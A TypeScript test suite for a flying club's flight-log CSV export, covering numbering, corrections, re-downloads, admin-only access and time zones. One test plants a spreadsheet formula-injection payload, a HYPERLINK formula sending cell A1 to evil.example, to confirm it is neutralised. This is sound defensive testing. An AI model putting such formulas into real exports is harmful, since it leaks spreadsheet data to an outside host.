import { beforeEach, expect, it } from 'vitest'
import { onEachEngine } from '../../database/test-engines'
import { cast } from '../../demo/cast'
import { allLines, exported, type MadeExport, nothingNew, recordsOf } from './test-exports'
import { flown, type LogClub, openLogClub, run, postFlight, posted } from './test-log'

onEachEngine('exports of flights', (open) => {
  let club: LogClub
  beforeEach(async () => {
    club = await openLogClub(await open())
  })
  const save = (over: Parameters<typeof flown>[1] = {}) => posted(club, 'anna', 'save', flown(club, over))
  const signs = ({ lines }: MadeExport) => lines.map(({ number, flightId, sign }) => [number, flightId, sign])

  it('L18: an export contains the closed flights that accounting lacks, with consecutive numbers', async () => {
    expect(await postFlight(club, 'anna', 'export', {})).toEqual(nothingNew)
    const first = await save({ leftAt: '2026-07-01T06:00Z', backAt: '2026-07-01T07:00Z' })
    const earlier = await save({ leftAt: '2026-07-01T04:00Z', backAt: '2026-07-01T05:00Z' })
    await posted(club, 'petra', 'take', { aircraftId: club.ids.aircraft('OK-VHA'), pilotId: cast.petra.id })
    const made = await exported(club)
    expect(made).toMatchObject({ first: 1, last: 2, at: club.now, by: { id: cast.anna.id, firstName: 'Anna' } })
    expect(signs(made)).toEqual([
      [1, earlier.id, 1],
      [2, first.id, 1],
    ])
    expect(await postFlight(club, 'anna', 'export', {})).toEqual(nothingNew)
    const third = await save({ leftAt: '2026-07-01T02:00Z', backAt: '2026-07-01T03:00Z' })
    expect(signs(await exported(club))).toEqual([[3, third.id, 1]])
  })

  it('L18: a corrected flight is cancelled and exported again, a removed one is cancelled, a restored one exported again', async () => {
    const flight = await save({ landings: 1 })
    const given = await exported(club)
    await posted(club, 'anna', 'save', { ...flown(club, { landings: 2 }), id: flight.id })
    const corrected = await exported(club)
    expect(signs(corrected)).toEqual([
      [2, flight.id, -1],
      [3, flight.id, 1],
    ])
    expect(corrected.lines[0]?.line).toBe(`2;-1;${given.lines[0]?.line.slice('1;1;'.length)}`)
    expect(recordsOf(corrected.csv).map((line) => [line.Sign, line.Landings])).toEqual([
      ['-1', '1'],
      ['1', '2'],
    ])
    await postFlight(club, 'anna', 'remove', flight.id)
    const removed = await exported(club)
    expect(signs(removed)).toEqual([[4, flight.id, -1]])
    await postFlight(club, 'anna', 'restore', flight.id)
    const restored = await exported(club)
    expect(signs(restored)).toEqual([[5, flight.id, 1]])
    await postFlight(club, 'anna', 'remove', flight.id)
    await postFlight(club, 'anna', 'restore', flight.id)
    expect(await postFlight(club, 'anna', 'export', {}), 'removed and restored between two exports').toEqual(nothingNew)
    await posted(club, 'anna', 'save', { ...flown(club, { landings: 2 }), id: flight.id })
    expect(await postFlight(club, 'anna', 'export', {}), 'saved without a change').toEqual(nothingNew)
  })

  it('L18: a flight whose readings another flight changes is exported again', async () => {
    const first = await save({ meters: [run(club, 100, 102)] })
    const later = { leftAt: '2026-07-01T06:00Z', backAt: '2026-07-01T07:00Z', meters: [run(club, 101, 103)] }
    const disputed = await save(later)
    const before = recordsOf((await exported(club)).csv)
    expect(before.map(({ Meters }) => Meters)).toEqual(['Tach 101.0-103.0 (disputed)', 'Tach 100.0-102.0'])
    await postFlight(club, 'anna', 'remove', first.id)
    const after = recordsOf((await exported(club)).csv)
    expect(after.map((line) => [line.Sign, line.Flight, line.Meters])).toEqual([
      ['-1', String(first.id), 'Tach 100.0-102.0'],
      ['-1', String(disputed.id), 'Tach 101.0-103.0 (disputed)'],
      ['1', String(disputed.id), 'Tach 101.0-103.0'],
    ])
  })

  it('L18: an export can be downloaded again by its number, byte for byte, whatever has changed since', async () => {
    const flight = await save({ remark: 'first; "quoted"' })
    const made = await exported(club)
    await posted(club, 'anna', 'save', { ...flown(club, { remark: 'second' }), id: flight.id })
    await club.db.updateTable('users').set({ lastName: 'Married' }).where('id', '=', cast.petra.id).execute()
    const second = await exported(club)
    expect(await exported(club, made.id)).toEqual(made)
    expect(await exported(club, second.id)).toEqual(second)
    const commas = await exported(club, made.id, ',')
    expect(recordsOf(commas.csv, ',')).toEqual(recordsOf(made.csv))
    expect(commas.lines).toEqual(made.lines)
    expect(await postFlight(club, 'anna', 'export', { id: 4711 })).toEqual({
      status: 404,
      body: ['This export does not exist.'],
    })
    expect(await allLines(club.db)).toHaveLength(3)
  })

  it('L18: the list of exports starts with the newest, for administrators only', async () => {
    await save()
    const first = await exported(club)
    club.now = '2026-07-02T08:00:00.000Z'
    await save({ leftAt: '2026-07-01T06:00Z', backAt: '2026-07-01T07:00Z' })
    await save({ leftAt: '2026-07-01T04:00Z', backAt: '2026-07-01T05:00Z' })
    const second = await exported(club)
    const by = { id: cast.anna.id, firstName: 'Anna', lastName: cast.anna.lastName }
    expect((await club.get('anna', 'flights/getExports')).body).toEqual([
      { id: second.id, at: club.now, by, first: 2, last: 3, count: 2 },
      { id: first.id, at: '2026-07-01T08:00:00.000Z', by, first: 1, last: 1, count: 1 },
    ])
    const refused = { status: 403, body: [expect.any(String)] }
    for (const other of ['igor', 'petra', 'sam', 'eva'] as const) {
      expect(await club.post(other, 'flights/export', {})).toEqual(refused)
      expect(await club.post(other, 'flights/export', { id: first.id })).toEqual(refused)
      expect(await club.get(other, 'flights/getExports')).toEqual(refused)
    }
    const trail = await club.db.selectFrom('audit').selectAll().where('noun', '=', 'flightExport').execute()
    expect(trail.map(({ action, actorId, subjectId }) => [action, actorId, subjectId])).toEqual(
      [first, second].map(({ id }) => ['created', cast.anna.id, String(id)]),
    )
  })

  it('L23: names, quotes, line breaks and formulas survive, and no formula runs in a spreadsheet', async () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?x="&A1;"Click")'
    await club.db
      .updateTable('users')
      .set({ firstName: '"Pete"', lastName: "O'Hara; jr, @home" })
      .where('id', '=', cast.petra.id)
      .execute()
    await club.db.updateTable('meters').set({ name: '-Tach; "left"' }).where('id', '=', club.tach).execute()
    await save({
      remark: `${hyperlink}\nsecond, "line"`,
      departure: '+1',
      arrival: '@SUM',
      meters: [run(club, 100, 101)],
    })
    const made = await exported(club)
    const [line] = recordsOf(made.csv)
    expect(line).toMatchObject({
      Pilot: '"Pete" O\'Hara; jr, @home',
      Remark: `'${hyperlink}\nsecond, "line"`,
      Departure: "'+1",
      Arrival: "'@SUM",
      Meters: `'-Tach; "left" 100.0-101.0`,
    })
    const commas = (await exported(club, made.id, ',')).csv
    expect(recordsOf(commas, ',')).toEqual(recordsOf(made.csv))
    expect(made.csv.endsWith('\r\n')).toBe(true)
  })

  it('L23: times have the offset of the airport, also in the hours in which the clocks change', async () => {
    club.now = '2026-11-01T08:00:00.000Z'
    await club.post('anna', 'aircraftLogs/save', { aircraftId: club.ids.aircraft('OK-VHA'), since: '2026-01-01' })
    await save({ leftAt: '2026-10-25T00:30:00Z', backAt: '2026-10-25T01:30:00Z' })
    await save({ leftAt: '2026-03-29T00:30:00Z', backAt: '2026-03-29T01:30:00Z' })
    expect(recordsOf((await exported(club)).csv)).toMatchObject([
      { Date: '2026-03-29', Left: '2026-03-29T01:30+01:00', Back: '2026-03-29T03:30+02:00', 'Block (h:mm)': '1:00' },
      { Date: '2026-10-25', Left: '2026-10-25T02:30+02:00', Back: '2026-10-25T02:30+01:00', 'Block (h)': '1' },
    ])
  })
})
